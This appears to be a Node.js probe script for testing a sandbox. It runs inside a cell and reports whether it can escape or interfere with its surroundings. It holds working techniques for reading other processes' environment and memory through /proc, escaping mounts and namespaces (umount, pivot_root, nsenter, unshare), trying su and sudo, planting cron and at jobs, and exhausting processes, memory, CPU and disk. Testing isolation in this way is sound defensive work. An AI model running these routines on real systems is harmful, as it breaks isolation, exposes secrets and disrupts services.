/** Run in a cell as a script of a check would be: tries to get out, and tells what it got. It needs nothing but Node and the system. */
const { spawn, spawnSync } = require('node:child_process');
const fs = require('node:fs');
const net = require('node:net');

const aim = JSON.parse(process.argv[1]);
/** In two pieces, so that it finds what others hold and not its own text. */
const SECRET = ['sonde', 'secret', ''].join('-');
const attempt = (act) => {
  try {
    return act() || null;
  } catch {
    return null;
  }
};
const secretIn = (path) =>
  attempt(() => fs.readFileSync(path, 'latin1').match(new RegExp(`${SECRET}\\w+`))?.[0]);
const others = () =>
  fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && name !== String(process.pid));
const firstOf = (values) => values.find((value) => value !== null) ?? null;
const run = (line) =>
  attempt(() => spawnSync('/bin/sh', ['-c', line], { timeout: 5000 }).stdout.toString()) ?? '';
const secretOf = (line) => run(line).match(new RegExp(`${SECRET}\\w+`))?.[0] ?? null;

/** What stands in the memory of a process: only who may trace it can read that. */
function memoryOf(pid) {
  const memory = fs.openSync(`/proc/${pid}/mem`, 'r+');
  const ranges = fs.readFileSync(`/proc/${pid}/maps`, 'latin1').split('\n');
  for (const line of ranges) {
    const [, from, to] = /^(\w+)-(\w+) rw/.exec(line) ?? [];
    const size = Number.parseInt(to, 16) - Number.parseInt(from, 16);
    if (!(size > 0 && size < 64e6)) continue;
    const bytes = Buffer.alloc(size);
    attempt(() => fs.readSync(memory, bytes, 0, size, BigInt(`0x${from}`)));
    const at = bytes.indexOf(`${SECRET}memory`);
    if (at >= 0) return bytes.toString('latin1', at, at + `${SECRET}memory`.length);
  }
  return null;
}

/** Everything that would bring back what was hidden, as whoever it can become. */
const uncover = `
for at in $(cut -d' ' -f5 /proc/self/mountinfo | sort -r); do umount -l "$at"; umount "$at"; done
mount -o remount,rw /; mount -o remount,rw /usr
mkdir -p /tmp/up; mount -t proc proc /tmp/up; mount --bind / /tmp/up
pivot_root / /tmp; chroot /proc/1/root /bin/cat ${aim.store}; nsenter -t 1 -a /bin/cat ${aim.store}
cat ${aim.store} /proc/1/root${aim.store} /proc/1/cwd${aim.store} /tmp/up${aim.store} /old${aim.store}`;

const connects = (path) =>
  new Promise((resolve) => {
    const socket = net.connect(path, () => {
      socket.destroy();
      resolve('connected');
    });
    socket.on('error', () => resolve(null));
  });

async function main() {
  const got = {
    store: secretIn(aim.store),
    profile: secretIn(aim.profile),
    otherCell: firstOf([
      secretIn(`${aim.otherFolder}/note`),
      ...others().map((pid) => secretIn(`/proc/${pid}/root/cell/note`)),
      ...others().map((pid) => secretIn(`/proc/${pid}/cwd/note`)),
    ]),
    environment: firstOf(others().map((pid) => secretIn(`/proc/${pid}/environ`))),
    memory: firstOf(others().map((pid) => attempt(() => memoryOf(pid)))),
    socket: await connects(aim.socket),
    pipe: attempt(() => fs.openSync(aim.pipe, fs.constants.O_WRONLY | fs.constants.O_NONBLOCK) && 'opened'),
    signal: attempt(() => process.kill(aim.servicePid, 'SIGUSR2') && 'sent'),
    unmounted: aim.isKind ? null : secretOf(`(${uncover}) 2>/dev/null`),
    unmountedAsRootOfItsOwn: aim.isKind
      ? null
      : secretOf(`unshare --user --map-root-user --mount --pid --fork sh -c '${uncover}' 2>/dev/null`),
    root: /uid=0/.test(run(`su -c id </dev/null 2>/dev/null; sudo -n id 2>/dev/null`) ?? '')
      ? 'became root'
      : null,
  };
  // What it leaves, wherever something looks for work or keeps it.
  run(`echo '* * * * * true #${aim.trace}' | crontab - 2>/dev/null; echo true | at now + 1 day 2>/dev/null`);
  for (const folder of aim.outside) attempt(() => fs.writeFileSync(`${folder}/${aim.trace}`, 'here'));
  if (!aim.isKind) attempt(() => process.kill(-1, 'SIGUSR2'));
  console.log(JSON.stringify(got));
  for (let count = 0; !aim.isKind && count < 20; count += 1)
    spawn('/bin/sh', ['-c', `trap '' TERM HUP INT; setsid sh -c "sleep ${aim.mark}" & sleep ${aim.mark}`], {
      detached: true,
      stdio: 'ignore',
    })
      .on('error', () => {})
      .unref();
}

/** A thousand processes, each of which hides as well as it can. */
function fork() {
  let started = 0;
  for (let count = 0; count < 1000; count += 1) {
    const child = spawn('/usr/bin/setsid', ['--fork', '/bin/sleep', aim.mark], { stdio: 'ignore', env: {} });
    child.on('error', () => {});
    if (child.pid !== undefined) started += 1;
  }
  console.log(JSON.stringify({ started }));
  setInterval(() => {}, 1000);
}

/** All the memory there is, in buffers, which V8 does not count. */
function fill() {
  const held = [];
  for (;;) held.push(Buffer.alloc(16e6, 1));
}

/** The same in many processes, none of which takes much. */
function fillTogether() {
  const one = `const held = Buffer.alloc(60e6, 1); setInterval(() => held, 1000)`;
  for (let count = 0; count < 8; count += 1) spawn(process.execPath, ['-e', one], { stdio: 'ignore' });
  setInterval(() => {}, 1000);
}

/** In fifty processes at once. */
function fillMany() {
  const one = 'my $held = "x" x 100_000_000; sleep 600';
  for (let count = 0; count < 50; count += 1) spawn('perl', ['-e', one], { stdio: 'ignore' });
  setInterval(() => {}, 1000);
}

/** Where no process counts as its owner: in a mapping that could be shared. */
function fillShared() {
  const [map, read] = process.arch === 'arm64' ? [222, 63] : [9, 0];
  const one = `my $at = syscall(${map}, 0, 400 << 20, 3, 0x21, -1, 0); open(Z, "<", "/dev/zero");
    syscall(${read}, fileno(Z), $at + ($_ << 20), 1 << 20) for 0..399; sleep 600`;
  spawn('perl', ['-e', one], { stdio: 'ignore' });
  setInterval(() => {}, 1000);
}

/** In short-lived processes, each of which leaves those who started it: none is there long enough to be seen using much. */
function burnMany() {
  const burn = 'i=0; while [ $i -lt 20000 ]; do i=$((i+1)); done';
  const line = `while :; do setsid sh -c '${burn}' & sleep 0.02; done`;
  for (let count = 0; count < 10; count += 1)
    spawn('/bin/sh', ['-c', `(${line}) & exit`], { stdio: 'ignore' });
  setInterval(() => {}, 1000);
}

function spin() {
  for (;;);
}

/** Until nothing can be written any more, wherever it may be. */
function write() {
  let written = 0;
  const piece = Buffer.alloc(1e6, 1);
  for (const folder of ['.', '/tmp', '/var/tmp', '/dev/shm'])
    for (let count = 0; count < 400; count += 1) {
      try {
        written += fs.writeSync(fs.openSync(`${folder}/${count}`, 'w'), piece);
      } catch {
        break;
      }
    }
  // A watch that took a full file system for too much would end it here.
  setTimeout(() => console.log(JSON.stringify({ written })), 1000);
}

({ main, fork, fill, fillTogether, fillMany, fillShared, burnMany, spin, write })[aim.how]();
